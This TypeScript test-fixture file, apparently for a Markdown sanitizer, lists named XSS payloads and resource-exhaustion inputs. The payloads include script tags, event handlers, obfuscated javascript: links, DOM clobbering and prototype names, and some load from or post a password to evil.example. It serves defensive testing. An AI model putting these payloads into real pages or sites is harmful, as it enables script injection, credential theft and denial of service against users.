/** Texts that try to run something, or to reach out of their place. */
export const ATTACKS: [name: string, text: string][] = [
  ['a script', '<script>alert(1)</script><SCRIPT SRC=//evil.example></SCRIPT>'],
  ['a script in a paragraph', 'a <scr<script>ipt>alert(1)</scr</script>ipt> b'],
  [
    'event handlers',
    '<img src=x onerror=alert(1)><p onclick="alert(1)" OnMouseOver=alert(1)>x</p><body onload=alert(1)>',
  ],
  [
    'event handlers on our own elements',
    '<callout kind="note" onclick="alert(1)">x</callout><diagram source="a" onload="x"></diagram>',
  ],
  ['a javascript: link', '[x](javascript:alert(1)) <javascript:alert(1)> [y]: x\n\n[x]: javascript:alert(1)'],
  [
    'javascript: in disguise',
    [
      '[a](JaVaScRiPt:alert(1))',
      '[b](&#106;avascript:alert(1))',
      '[c](java\\script:alert(1))',
      '[d](<java\tscript:alert(1)>)',
      '[e](&#x6A;&#x61;vascript&colon;alert(1))',
      '[f](\u0001javascript:alert(1))',
      '<a href="java&#10;script:alert(1)">g</a>',
      '<a href=" javascript:alert(1)">h</a>',
      '<a href="&#0000106&#0000097vascript:alert(1)">i</a>',
      '[j](%6aavascript:alert(1))',
    ].join('\n\n'),
  ],
  [
    'data: and other protocols',
    '[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml;base64,PHN2Zz4=) [c](vbscript:x) [d](file:///etc/passwd) [e](blob:x) ![f](javascript:1)',
  ],
  [
    'pictures that are not',
    '![x](data:text/html;base64,PHNjcmlwdD4=) <img src="data:image/svg+xml,<svg onload=alert(1)>">',
  ],
  [
    'svg',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><rect/></a><animate onbegin=alert(1) /></svg>',
  ],
  [
    'namespaces',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['more namespaces', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'foreign objects',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  [
    'styles',
    '<style>*{display:none}</style><p style="position:fixed;inset:0">x</p><link rel=stylesheet href=//evil.example>',
  ],
  [
    'DOM clobbering',
    '<a id=root name=location></a><img name=body><form id=documentElement><input name=attributes></form><b id="__proto__">x</b>',
  ],
  [
    'frames',
    '<iframe src=//evil.example></iframe><frame src=x><object data=x></object><embed src=x><applet></applet><portal src=x></portal>',
  ],
  ['meta and base', '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>'],
  [
    'forms',
    '<form action=//evil.example><input type=password name=p><button formaction=javascript:alert(1)>Sign in</button><textarea>x</textarea><select><option>x</select></form>',
  ],
  ['unclosed HTML', '<div><b><a href="x'],
  ['HTML that closes what it did not open', '</div></div></section></article></body></html>text'],
  [
    'comments and declarations',
    '<!-- a --><!DOCTYPE html><?php x ?><![CDATA[ <script>alert(1)</script> ]]><!--><script>alert(1)</script>-->',
  ],
  [
    'templates and noscript',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  [
    'plaintext and other strange elements',
    '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
  ],
  ['directives', ':::note{onclick=alert(1) style="x" .x #root}\nx\n:::\n\n:::script\nx\n:::\n\n:::{}\n:::'],
  [
    'formulas with links and styles',
    '$$\\href{javascript:alert(1)}{x} \\htmlId{root}{y} \\url{javascript:alert(1)} \\includegraphics{x}$$',
  ],
  ['formulas that expand for ever', '$$\\def\\a{\\a\\a}\\a$$ and $$\\rule{99999em}{99999em}$$'],
  [
    'diagrams',
    '```mermaid title="<img src=x onerror=alert(1)>" height=9999\nflowchart LR\n a["<img src=x onerror=alert(1)>"] --> b\n click a "javascript:alert(1)"\n```',
  ],
  [
    'emoji',
    ':bootsheart: :__proto__: :constructor: <:toString:1> :aaaaaaaaaabbbbbbbbbbccccccccccddddddddddd:',
  ],
  [
    'names of code blocks',
    '```"><script>alert(1)</script>\nx\n```\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
  ],
  ['attributes of pictures', '![" onerror="alert(1)](x.png "\\" onload=\\"alert(1)")'],
  ['prototype names', '[__proto__]: /x\n\n[__proto__] [^constructor]\n\n[^constructor]: x'],
  ['control characters', 'a\u0000b\u0007c\u2028d\uFFFEe\uD800f'],
  [
    'elements that are ours only after the check',
    '<collapsible open>x</collapsible><details open><summary>s</summary>x</details>',
  ],
];

/** Texts that are too much to be read as Markdown. */
export const TOO_MUCH: [name: string, create: () => string][] = [
  ['quotes 10,000 deep', () => `${'>'.repeat(10_000)} a`],
  ['lists 10,000 deep', () => `${'- '.repeat(10_000)}a`],
  ['mixed containers', () => `${'> 1. '.repeat(5_000)}a`],
  [
    'indented lists 300 deep',
    () => Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  ],
  ['300 KB of brackets', () => '['.repeat(300_000)],
  ['90 KB of brackets', () => '['.repeat(90_000)],
  ['images in images', () => '!['.repeat(20_000)],
  ['links in links', () => '[a]('.repeat(20_000)],
  ['emphasis in emphasis', () => '*a_'.repeat(10_000)],
  [
    'backticks of every length',
    () => Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join(' '),
  ],
  ['HTML 5,000 deep', () => '<div>'.repeat(5_000)],
  ['HTML 1,000 deep', () => '<b>'.repeat(1_000)],
  ['tables of 100,000 cells', () => `${'|a'.repeat(1_000)}\n${'|-'.repeat(1_000)}\n${'|b'.repeat(100_000)}`],
  ['30,000 footnotes', () => '[^a]: x\n\n'.repeat(30_000)],
  ['20,000 entities', () => '&amp;'.repeat(20_000)],
  ['a file of 10 MB', () => 'a'.repeat(10_000_000)],
];
